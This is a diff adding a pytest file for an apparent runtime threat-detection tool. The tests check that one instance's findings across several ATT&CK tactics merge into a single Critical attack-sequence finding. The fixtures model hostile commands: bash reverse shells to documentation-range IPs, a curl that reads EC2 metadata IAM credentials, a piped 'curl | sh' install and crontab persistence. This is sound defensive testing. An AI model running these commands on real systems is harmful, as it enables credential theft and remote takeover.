@@ -1,0 +1,203 @@
+"""Attack sequences (vigil.sequences): one instance's findings across tactics become one Critical finding.
+
+GIVEN the pipeline over agent batches, WHEN one instance's Medium+ findings span two ATT&CK tactics
+(in separate batches, in either order), THEN one AttackSequence:EC2/CompromisedInstanceGroup finding
+forms, lists its signals in order with their tactics, grows with later signals, and a replayed
+batch neither adds a sighting nor changes its signals; one tactic, Low signals or another
+instance's findings form none.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import msgspec
+from guardduty_shape import validate
+
+from vigil import sample as s
+from vigil import wire
+from vigil.findings import Occurrence
+from vigil.pipeline import Pipeline
+from vigil.sequences import TYPE, tactic
+from vigil.state import InMemoryState
+
+EVENTS = Path(__file__).resolve().parents[2] / "events" / "agent"
+SEC = 1_000_000_000
+WEB = s.proc("/usr/sbin/nginx", pid=900, uid=33, user="www-data")
+REVERSE = s.proc(
+    "/bin/bash",
+    "-i",
+    pid=4000,
+    stdin=s.sock("198.51.100.7", 4444),
+    stdout=s.sock("198.51.100.7", 4444),
+    parent=WEB,
+)
+IMDS = s.proc(
+    "/usr/bin/curl",
+    "-s",
+    "http://169.254.169.254/latest/meta-data/iam/security-credentials/r",
+    pid=4001,
+    parent=REVERSE,
+)
+DISCOVERY = s.proc("/usr/bin/cat", "/etc/os-release", pid=4002, parent=REVERSE)  # no finding at all
+
+
+def _run(pipeline: Pipeline, state: InMemoryState, *batches: list) -> list[Occurrence]:
+    out: list[Occurrence] = []
+    for events in batches:
+        out += pipeline.detect(events, state).occurrences
+        state.commit()
+    return out
+
+
+def _seq(occ: list[Occurrence]) -> list[Occurrence]:
+    return [o for o in occ if o.finding["type"] == TYPE]
+
+
+def _signals(o: Occurrence) -> list[tuple[str, str]]:
+    sig = o.finding["service"]["detection"]["sequence"]["signals"]
+    return [(x["name"], x["signalIndicators"][0]["values"][0]) for x in sig]
+
+
+def test_a_second_tactic_forms_one_critical_sequence_listing_the_signals_in_order() -> None:
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), InMemoryState()
+    first = _run(p, state, [s.exec_(REVERSE, t=0)])
+    assert _seq(first) == [] and {o.finding["type"] for o in first} == {"Execution:Runtime/ReverseShell"}
+    second = _run(p, state, [s.exec_(IMDS, t=30 * SEC)])
+    (o,) = _seq(second)
+    assert o.finding["severity"] == 9.0 and o.count == 1
+    assert _signals(o) == [
+        ("Execution:Runtime/ReverseShell", "Execution"),
+        ("CredentialAccess:Runtime/SuspiciousCommand", "Credential Access"),
+    ]
+    assert "2 tactics (Execution, Credential Access)" in o.finding["title"]
+    assert validate(o.finding) == []
+    # it grows: a later signal of a third tactic updates the same finding with three signals
+    later = s.exec_(s.proc("/usr/bin/crontab", "/tmp/c", pid=4003, parent=REVERSE), t=60 * SEC)
+    (grown,) = _seq(_run(p, state, [later]))  # crontab from a web server's shell: Persistence, Medium
+    assert grown.id == o.id and _signals(grown)[2:] == [
+        ("Persistence:Runtime/SuspiciousCommand", "Persistence")
+    ]
+    assert "3 tactics" in grown.finding["title"]
+
+
+def test_the_order_of_arrival_does_not_matter_and_replays_add_nothing() -> None:
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), InMemoryState()
+    cred, shell = s.exec_(IMDS, t=30 * SEC), s.exec_(REVERSE, t=0)
+    a = _seq(_run(p, state, [cred]))
+    b = _seq(_run(p, state, [shell]))
+    assert a == [] and len(b) == 1
+    # the State orders by time first seen: the shell (t=0) before the credentials (t=30 s)
+    assert [n for n, _ in _signals(b[0])] == [
+        "Execution:Runtime/ReverseShell",
+        "CredentialAccess:Runtime/SuspiciousCommand",
+    ]
+    again = _seq(_run(p, state, [shell]))  # the same record again: the same event, the same document
+    assert [x.sightings for x in again] == [b[0].sightings]
+    assert _signals(again[0]) == _signals(b[0]) and again[0].id == b[0].id
+
+
+def test_one_tactic_low_signals_or_another_instance_form_no_sequence() -> None:
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), InMemoryState()
+    other = msgspec.structs.replace(s.DEVICE, instance_uid="i-0fffffffffffffff1")
+    shell2 = s.exec_(s.proc("/bin/sh", stdin=s.sock("203.0.113.9", 9001), pid=4100, parent=WEB), t=SEC)
+    occ = _run(p, state, [s.exec_(REVERSE)], [shell2], [s.exec_(DISCOVERY, t=2 * SEC)])
+    assert _seq(occ) == []  # Execution twice, and a command that raises nothing
+    assert _seq(_run(p, state, [s.exec_(IMDS, t=3 * SEC, device=other)])) == []  # another instance
+    # at an administrator's terminal: an installer piped to sh (Execution, Medium), then crontab
+    # (Persistence, Low at a terminal): a Low finding is no step of a sequence
+    admin = InMemoryState()
+    install = s.exec_(
+        s.proc("/bin/sh", "-c", "curl -fsSL https://get.example.com/i | sh", pid=4200, parent=s.LOGIN_SHELL)
+    )
+    cron = s.exec_(s.proc("/usr/bin/crontab", "/tmp/c", pid=4201, parent=s.LOGIN_SHELL), t=SEC)
+    occ = _run(p, admin, [install], [cron])
+    assert {(o.finding["type"], o.finding["severity"]) for o in occ} == {
+        ("Execution:Runtime/SuspiciousCommand", 5.0),
+        ("Persistence:Runtime/SuspiciousCommand", 2.0),
+    }
+    assert tactic("Backdoor:Runtime/C&CActivity.B") == ("TA0011", "Command and Control")
+    assert tactic("Trojan:EC2/DropPoint") == ("TA0010", "Exfiltration")
+    assert tactic("Policy:Runtime/Nothing") is None
+
+
+def test_the_demo_batches_form_a_sequence_on_the_reverse_shell_instance_only_after_its_next_step() -> None:
+    p, state = Pipeline.default(account_id="123456789012", region="us-east-1"), InMemoryState()
+    occ: list[Occurrence] = []
+    for name in ("benign.ndjson.gz", "reverse_shell.ndjson.gz", "crypto_dns.ndjson.gz"):
+        occ += p.process_record((EVENTS / name).read_bytes(), state).occurrences
+        state.commit()
+    assert _seq(occ) == []
+    data = (EVENTS / "reverse_shell_next.ndjson.gz").read_bytes()
+    (o,) = _seq(p.process_record(data, state).occurrences)
+    state.commit()
+    host = wire.decode_batch(data)[0][0].host
+    assert host is not None and o.instance_id == host.instance_id
+    assert [t for _, t in _signals(o)] == ["Execution", "Execution", "Credential Access"]
+    (again,) = _seq(p.process_record(data, state).occurrences)
+    assert again.sightings == o.sightings and _signals(again) == _signals(o)
+
+
+def _details(groups: dict[str, dict]) -> object:
+    calls: list[list[str]] = []
+
+    def lookup(instances: object) -> dict[str, dict]:
+        calls.append(list(instances))  # type: ignore[call-overload]
+        return {i: groups[i] for i in instances if i in groups}  # type: ignore[attr-defined]
+
+    lookup.calls = calls  # type: ignore[attr-defined]
+    return lookup
+
+
+def test_instances_of_one_auto_scaling_group_share_a_sequence_across_them() -> None:
+    """GIVEN EC2 details that put two instances in one Auto Scaling group, WHEN one raises an
+    Execution finding and the other a Credential Access one, THEN a sequence forms on the second,
+    listing each signal with the instance it came from; without the group (or with another
+    group's instance) each instance alone has one tactic and none forms."""
+    a, b, c = "i-0a1b2c3d4e5f60011", "i-0a1b2c3d4e5f60012", "i-0a1b2c3d4e5f60013"
+    asg = {
+        "tags": [{"key": "aws:autoscaling:groupName", "value": "web-asg"}, {"key": "Name", "value": "web"}]
+    }
+    other = {"iamInstanceProfile": {"arn": "arn:aws:iam::123456789012:instance-profile/batch"}}
+    lookup = _details({a: asg, b: asg, c: other})
+    dev = {i: msgspec.structs.replace(s.DEVICE, instance_uid=i) for i in (a, b, c)}
+    for details, expect in ((None, False), (lookup, True)):
+        p = Pipeline.default(account_id="123456789012", region="us-east-1", instance_details=details)  # type: ignore[arg-type]
+        state = InMemoryState()
+        first = _seq(_run(p, state, [s.exec_(REVERSE, t=0, device=dev[a])]))
+        on_c = _seq(_run(p, state, [s.exec_(IMDS, t=10 * SEC, device=dev[c])]))  # another group
+        on_b = _seq(_run(p, state, [s.exec_(IMDS, t=30 * SEC, device=dev[b])]))
+        assert first == [] and on_c == []
+        if not expect:
+            assert on_b == []
+            continue
+        (o,) = on_b
+        assert o.instance_id == b and "across the instances of asg:web-asg" in o.finding["title"]
+        sig = o.finding["service"]["detection"]["sequence"]["signals"]
+        assert [(x["name"], x["resourceUids"]) for x in sig] == [
+            ("Execution:Runtime/ReverseShell", [a]),
+            ("CredentialAccess:Runtime/SuspiciousCommand", [b]),
+        ]
+        assert validate(o.finding) == []
+        # the same batch again: the same sighting, the same signals
+        (again,) = _seq(_run(p, state, [s.exec_(IMDS, t=30 * SEC, device=dev[b])]))
+        assert again.id == o.id and _signals(again) == _signals(o)
+
+
+def test_a_failing_instance_lookup_leaves_the_instances_own_sequences() -> None:
+    from vigil.engine import Engine
+    from vigil.intel.builtin import builtin_intel
+    from vigil.registry import all_detections
+    from vigil.sequences import attack_sequences
+
+    def broken(instances: object) -> dict:
+        raise RuntimeError("EC2 throttled")
+
+    dets = all_detections()
+    engine = Engine(dets, intel=builtin_intel())
+    types = {d.meta.type: d.meta.title for d in dets}
+    state = InMemoryState()
+    events = [s.exec_(REVERSE), s.exec_(IMDS, t=30 * SEC)]
+    matches = engine.run(events, state).matches
+    got = attack_sequences(matches, state, types, details=broken)
+    assert {m.detection.meta.type for m in got} == {TYPE} and len(got) == 2  # one per signal event
